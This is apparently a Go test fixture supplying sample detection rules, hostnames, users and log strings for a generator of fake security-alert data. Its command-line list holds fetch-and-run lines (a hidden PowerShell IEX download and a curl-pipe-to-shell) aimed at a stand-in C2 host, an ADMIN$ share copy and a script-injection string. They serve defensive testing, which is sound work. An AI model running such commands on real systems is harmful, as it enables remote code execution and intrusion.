package chronicletest

// The generator's vocabulary. It has on purpose what breaks careless clients:
// quotes, backslashes, line ends, HTML and several scripts.

// customRule is a rule that the customer wrote.
type customRule struct {
	name, id, version string
	severity          [2]string // the label's key and value, each in the rule author's own case
	author            [2]string
	description       string
	kinds             []int // indexes of eventKinds
	risk              int
}

var customRules = []customRule{
	{
		"suspicious_powershell_download", "ru_e6abfcb5-1b85-41b0-b64c-695b3250436f",
		"ru_e6abfcb5-1b85-41b0-b64c-695b3250436f@v_1748000000_146879000",
		[2]string{"severity", "High"},
		[2]string{"author", "detections@example.com"},
		"PowerShell fetches & runs a script:\n\"IEX (New-Object Net.WebClient)\"",
		[]int{0, 1},
		85,
	},
	{
		"Brute force then success", "ru_4bd2b2c9-5f33-4f4a-8f70-2c5b1f6c0a77",
		"ru_4bd2b2c9-5f33-4f4a-8f70-2c5b1f6c0a77@v_1741234567_000000000",
		[2]string{"Severity", "MEDIUM"},
		[2]string{"Author", "Zoë Müller"},
		"Many failed logins, then one that succeeds <from the same address>",
		[]int{2},
		55,
	},
	{
		"dns_tunnel_long_labels", "ru_90c7f1aa-3d6e-4a53-9a0e-7e2d4f1b8c15",
		"ru_90c7f1aa-3d6e-4a53-9a0e-7e2d4f1b8c15@v_1735689600_500000000",
		[2]string{"severity", "low"},
		[2]string{"author", "soc"},
		"Labels of 40 characters & more\tin DNS queries",
		[]int{1, 5},
		30,
	},
	{
		"phishing_attachment_opened", "ru_1f0d3c44-86f1-4d9e-b0cb-5a9f6e2d7b38",
		"ru_1f0d3c44-86f1-4d9e-b0cb-5a9f6e2d7b38@v_1750000001_999999000",
		[2]string{"SEVERITY", "Critical"},
		[2]string{"AUTHOR", "José García"},
		"Pièce jointe ouverte après un courriel <script>alert(\"x\")</script>",
		[]int{3, 4, 0},
		95,
	},
	{
		"admin_share_copy", "ru_c3a9d0be-77d2-4c0f-94c6-0b8e51d2f6a9",
		"ru_c3a9d0be-77d2-4c0f-94c6-0b8e51d2f6a9@v_1729999999_000001000",
		[2]string{"severity", "Informational"},
		[2]string{"author", "红队"},
		"A file is written to \\\\HOST\\ADMIN$",
		[]int{4},
		15,
	},
}

// curatedRule is one of Google's.
type curatedRule struct {
	name, id, set, setName, severity, summary, description string
	kinds                                                  []int
	risk                                                   int
}

var curatedRules = []curatedRule{
	{
		"ttp_windows_lsass_dump", "ur_ttp_windows_LsassDump", "6d1c2f1a-24a8-4a8f-8d0b-93f8f1f0d2ab",
		"Windows Threats: Credential Theft", "HIGH", "Dump of LSASS",
		"A process reads the memory of lsass.exe <C:\\Windows\\System32>",
		[]int{0, 4},
		90,
	},
	{
		"gcp_service_account_key_created", "ur_gcp_ServiceAccountKey", "b5b3b1c5-3b1c-4d65-a1ad-0c2a8f7f9e10",
		"Cloud Threats: Persistence", "MEDIUM", "Service account key",
		"A key was created outside of the usual pipeline & by a person",
		[]int{2},
		50,
	},
	{
		"mandiant_ioc_domain", "ur_mandiant_IocDomain", "0f7f3b4e-0c0d-4b86-9a5b-6a6d3f2a1e55",
		"Applied Threat Intelligence", "CRITICAL", "Known C2 domain",
		"A host resolved a domain of an active breach: \"act now\"",
		[]int{5, 1},
		100,
	},
}

var (
	hostNames = []string{"WIN-FIN-0042", "srv-db-01.corp.example.com", "LAPTOP-ÅSA", "build-7f9c", "DC01", "macbook-josé"}
	userNames = []string{"alice", "CORP\\bob", "zoë.müller", "josé.garcía@example.com", "李雷", "svc_backup$", "o'neil"}
	domains   = []string{"login-micros0ft.example", "cdn.example.net", "xn--e1afmkfd.example", "c2.badhost.example", "updates.example.org"}
	filePaths = []string{
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Users\Zoë\AppData\Local\Temp\~inv"oice".docm`,
		`/usr/bin/curl`, `\\DC01\ADMIN$\psexesvc.exe`, `/tmp/.x/каталог/run.sh`,
	}
	commandLines = []string{
		`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.badhost.example/a?b=1&c=<2>')"`,
		"bash -c 'curl -s http://c2.badhost.example/x | sh'\n",
		`cmd.exe /c "copy C:\temp\a.exe \\DC01\ADMIN$\a.exe & echo done > C:\temp\log.txt"`,
		"python3 -c \"print('été\t☃ 😀')\"",
	}
	mailSubjects = []string{"RE: Rechnung Nr. 2025-08 <wichtig>", "Ihr Paket 📦 wartet", "\"Urgent\": wire transfer & invoice", "請求書の件"}
	userAgents   = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "curl/8.5.0", "python-requests/2.32.3"}
	countries    = []string{"Germany", "Türkiye", "Côte d'Ivoire", "Brasil", "日本"}
	logWords     = []string{
		"action=allow", "proto=tcp", "rule=default", "zone=internal", "bytes=48211", "session=closed", "sev=notice",
		"app=ssl", "dir=outbound", "user=unknown", "tz=UTC", "vendor=stand-in", "count=3", "status=ok", "policy=egress-17",
	}
)
